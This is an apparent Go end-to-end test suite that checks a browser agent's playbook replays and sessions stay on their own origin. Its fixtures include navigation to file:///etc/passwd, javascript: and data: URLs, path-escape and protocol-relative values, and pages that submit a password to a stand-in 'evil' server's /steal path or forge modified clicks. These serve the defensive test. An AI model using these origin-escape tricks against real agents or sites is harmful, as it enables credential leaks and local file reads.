package e2e

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/rote-agent/rote/bus"
	"github.com/rote-agent/rote/cmd/rote/node"
	"github.com/rote-agent/rote/schema"
	"github.com/rote-agent/rote/services/replay"
)

// otherOrigin is a site no replay may reach, and how many requests it
// heard.
func otherOrigin(t *testing.T) (*httptest.Server, *atomic.Int64) {
	var heard atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		heard.Add(1)
		t.Logf("the other origin heard %s %s", r.Method, r.URL)
		io.WriteString(w, "<main><h1>Thanks</h1></main>")
	}))
	t.Cleanup(evil.Close)
	return evil, &heard
}

// TestReplaysStayOnTheirOrigin replays playbooks that try to take the
// page off the site they are bound to: other schemes, a parameter that
// escapes a relative path, a redirect, a link, a script and a form that
// go to another origin, the same in a new tab or window (also from a
// page that undoes any blocker in its own world), a frame the page
// embeds from there, a form aimed at a frame, and a click the page makes
// with Shift or Ctrl (a new window with no opener). Each stops with
// out_of_origin (a frame stays empty), and the other origin never hears
// a request. An agent's session is held the same way.
func TestReplaysStayOnTheirOrigin(t *testing.T) {
	t.Parallel()
	evil, stolen := otherOrigin(t)
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/redirect":
			http.Redirect(w, r, evil.URL+"/steal", http.StatusFound)
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!doctype html><main><h1>Home</h1><a href="%[1]s/steal">Partner</a>
<button onclick="location.href='%[1]s/js'">Jump</button>
<a href="%[1]s/tab" target="_blank">Partner tab</a><button onclick="window.open('%[1]s/popup')">Pop up</button>
<form action="%[1]s/newtab" target="_blank"><button>Open in a tab</button></form>
<form action="%[1]s/post" method="post"><input name="pw" aria-label="Password"><button>Send</button></form>
<iframe name="side" title="Side"></iframe><iframe src="%[1]s/embedded" title="Embedded"></iframe>
<form action="%[1]s/framed" target="side"><input name="pw" aria-label="Frame password"><button>Send to the frame</button></form></main>`, evil.URL)
		case "/undone":
			// A page that undoes any blocker in its own world: every click
			// stopped on the window before a document listener hears it,
			// and a form aimed at a new tab sent with form.submit(), which
			// fires no submit event.
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!doctype html><script>window.addEventListener("click", e => e.stopPropagation(), true)</script>
<main><h1>Home</h1><a href="%[1]s/swallowed" target="_blank">Partner offers</a>
<form id="f" action="%[1]s/submitted" method="post" target="_blank"><input type="hidden" name="pw" value="hunter2"></form>
<span role="button" tabindex="0" onmousedown="document.getElementById('f').submit()">Send it</span>
<a id="plain" href="%[1]s/modified">Plain partner</a>
<span role="button" tabindex="0" onmousedown="document.getElementById('plain').dispatchEvent(new MouseEvent('click', {shiftKey: true, bubbles: true, cancelable: true}))">Shift it</span>
<span role="button" tabindex="0" onmousedown="document.getElementById('plain').dispatchEvent(new MouseEvent('click', {ctrlKey: true, bubbles: true, cancelable: true}))">Control it</span>
<span role="button" tabindex="0" onmousedown="window.open('').document.write('<iframe src=%[1]s/framed-popup></iframe>')">Frame it</span>
</main>`, evil.URL)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(home.Close)
	evilHost := strings.TrimPrefix(evil.URL, "http://")
	n := start(t, nil, node.Browser...)

	open := `{id: open, kind: deterministic, tool: navigate, args: {url: /}}`
	undone := func(button string) string {
		return `{id: open, kind: deterministic, tool: navigate, args: {url: /undone}}, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: ` + button + `}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`
	}
	cases := []struct {
		name, steps string
		params      map[string]string
	}{
		{"file", `{id: go, kind: deterministic, tool: navigate, args: {url: "file:///etc/passwd"}}`, nil},
		{"chrome", `{id: go, kind: deterministic, tool: navigate, args: {url: "chrome://version"}}`, nil},
		{"view-source", `{id: go, kind: deterministic, tool: navigate, args: {url: "view-source:` + home.URL + `/"}}`, nil},
		{"javascript", `{id: go, kind: deterministic, tool: navigate, args: {url: "javascript:location='` + evil.URL + `/js'"}}`, nil},
		{"data", `{id: go, kind: deterministic, tool: navigate, args: {url: "data:text/html,<form action=` + evil.URL + `>"}}`, nil},
		{"parameter escape", `{id: go, kind: deterministic, tool: navigate, args: {url: "/{{page}}"}}`, map[string]string{"page": "/" + evilHost + "/steal"}},
		{"another origin", `{id: go, kind: deterministic, tool: navigate, args: {url: "` + evil.URL + `/steal?p={{page}}"}}`, map[string]string{"page": "hunter2"}},
		{"backslash", `{id: go, kind: deterministic, tool: navigate, args: {url: "/\\` + evilHost + `/steal"}}`, nil}, // a browser reads /\host as //host; this one goes to a path on the site
		{"redirect", `{id: go, kind: deterministic, tool: navigate, args: {url: /redirect}}`, nil},
		{"link", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: link, name: Partner}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
		{"script", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Jump}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
		{"new tab", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: link, name: Partner tab}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
		{"popup", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Pop up}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
		{"a page that stops clicks", `{id: open, kind: deterministic, tool: navigate, args: {url: /undone}}, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: link, name: Partner offers}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
		{"form.submit() into a new tab", `{id: open, kind: deterministic, tool: navigate, args: {url: /undone}}, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Send it}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
		{"a click with Shift, made by the page", undone("Shift it"), nil},
		{"a click with Control, made by the page", undone("Control it"), nil},
		{"a frame written into an empty popup", undone("Frame it"), nil},
		{"form in a new tab", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Open in a tab}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
		{"form into a frame", open + `, {id: pw, kind: deterministic, needs: [open], tool: fill, target: {role: textbox, name: Frame password}, args: {value: "{{page}}"}}, {id: go, kind: deterministic, needs: [pw], tool: click, target: {role: button, name: Send to the frame}}`, map[string]string{"page": "hunter2"}},
		{"form", open + `, {id: pw, kind: deterministic, needs: [open], tool: fill, target: {role: textbox, name: Password}, args: {value: "{{page}}"}}, {id: go, kind: deterministic, needs: [pw], tool: click, target: {role: button, name: Send}}`, map[string]string{"page": "hunter2"}},
	}
	for _, c := range cases {
		if testing.Short() && slices.Contains([]string{"chrome", "view-source", "javascript", "data", "backslash"}, c.name) {
			continue // -short: TestCheckNavigation refuses these schemes; file: stands for them here
		}
		params := "{}"
		if c.params != nil {
			params = "{page: {type: string, required: true}}"
		}
		p := decodeOrFail(t, "name: escape\nintent: go somewhere\nparams: "+params+"\nsteps: ["+c.steps+"]\nverify: [{url_contains: /}]\n")
		if c.name == "parameter escape" {
			// A value that fills one segment of the path may not hold a /:
			// refused before the replay starts.
			if _, err := n.Executor().Replay(testContext(t), replay.Request{Playbook: p, Params: c.params, AllowUnbound: true, Open: n.BrowserOpener(home.URL)}); !errors.Is(err, schema.ErrInvalidParam) {
				t.Errorf("%s: %v, want invalid_param", c.name, err)
			}
			continue
		}
		res := browserReplay(t, n, p, home.URL, c.params)
		if (c.name == "backslash" || c.name == "form into a frame" || c.name == "a frame written into an empty popup") && res.Outcome == schema.OutcomeSuccess {
			continue // and the other origin heard nothing: checked below
		}
		if res.Outcome == schema.OutcomeSuccess || !errors.Is(res.Reason, schema.ErrOutOfOrigin) {
			t.Errorf("%s: outcome %s at %s (%v), want out_of_origin", c.name, res.Outcome, res.FailedStep, res.Reason)
		}
	}
	if got := stolen.Load(); got != 0 {
		t.Fatalf("the other origin heard %d requests", got)
	}

	// A session confined to the site's origin, as the agent's is.
	ctx := testContext(t)
	s, err := n.Bus().Browsers().Open(ctx, bus.NewID(), home.URL)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close(ctx)
	for _, to := range []string{home.URL + "/", evil.URL + "/agent", "file:///etc/passwd"} {
		ev, err := s.Act(ctx, "", schema.Action{Kind: schema.ActNavigate, URL: to})
		if err != nil {
			t.Fatal(err)
		}
		if refused := ev.Error != nil && errors.Is(ev.Error, schema.ErrOutOfOrigin); refused != (to != home.URL+"/") {
			t.Errorf("navigate %s: %v", to, ev.Error)
		}
	}
	if _, err := n.Bus().Browsers().Open(ctx, bus.NewID(), "file:///"); !errors.Is(err, schema.ErrInvalid) {
		t.Errorf("a session confined to file:///: %v", err)
	}
	if got := stolen.Load(); got != 0 {
		t.Fatalf("the other origin heard %d requests from the agent's session", got)
	}
}

// TestMCPReplaysStayOnTheirOrigin replays playbooks over browser MCP
// servers (rote mcp browser; @playwright/mcp without -short) whose url
// argument comes from a parameter. A value on another origin, another
// scheme, or off the origins the playbook declares stops the replay with
// out_of_origin before the call, and the other origin hears nothing; a
// value on the playbook's origin goes through.
func TestMCPReplaysStayOnTheirOrigin(t *testing.T) {
	t.Parallel()
	evil, stolen := otherOrigin(t)
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<!doctype html><title>Home</title><main><h1>Home</h1></main>")
	}))
	t.Cleanup(home.Close)
	n := start(t, nil)
	servers := []struct {
		name, navigate string
		command        []string
	}{{"rote mcp browser", "navigate", []string{roteBinary, "--data", t.TempDir(), "mcp", "browser"}}}
	if !testing.Short() {
		servers = append(servers, struct {
			name, navigate string
			command        []string
		}{"@playwright/mcp", "browser_navigate", playwrightCommand(t)})
	}
	for _, srv := range servers {
		nav := func(id, url string) string {
			return fmt.Sprintf(`{id: %s, kind: deterministic, tool: %s, args: {url: %q}}`, id, srv.navigate, url)
		}
		first := nav("home", home.URL+"/") + ", " + strings.Replace(nav("go", "{{page}}"), "kind:", "needs: [home], kind:", 1)
		cases := []struct {
			name, origins, steps, page string
			ok                         bool
		}{
			{"another origin", "", first, evil.URL + "/steal", false},
			{"a file", "", first, "file:///etc/passwd", false},
			{"protocol-relative", "", first, "//" + strings.TrimPrefix(evil.URL, "http://") + "/steal", false},
			{"a relative path @playwright/mcp reads as a host", "", first, "/" + strings.TrimPrefix(evil.URL, "http://") + "/steal", false},
			{"off the declared origins", "origins: [" + home.URL + "]\n", nav("go", "{{page}}"), evil.URL + "/steal", false},
			{"the playbook's origin", "", first, home.URL + "/next", true},
		}
		for _, c := range cases {
			p := decodeOrFail(t, "name: escape\nintent: go somewhere\n"+c.origins+"params: {page: {type: string, required: true}}\nsteps: ["+c.steps+"]\nverify: [{text_visible: Home}]\n")
			params := map[string]string{"page": c.page}
			open, err := n.Opener(node.Environment{Server: srv.command}, p, params)
			if err != nil {
				t.Fatal(err)
			}
			res, err := n.Executor().Replay(testContext(t), replay.Request{Playbook: p, Params: params, AllowUnbound: true, Open: open})
			if err != nil {
				t.Fatalf("%s, %s: %v", srv.name, c.name, err)
			}
			if ok := res.Outcome == schema.OutcomeSuccess; ok != c.ok || !ok && !errors.Is(res.Reason, schema.ErrOutOfOrigin) {
				t.Errorf("%s, %s: outcome %s at %s (%v)", srv.name, c.name, res.Outcome, res.FailedStep, res.Reason)
			}
		}
	}
	if got := stolen.Load(); got != 0 {
		t.Fatalf("the other origin heard %d requests", got)
	}
}
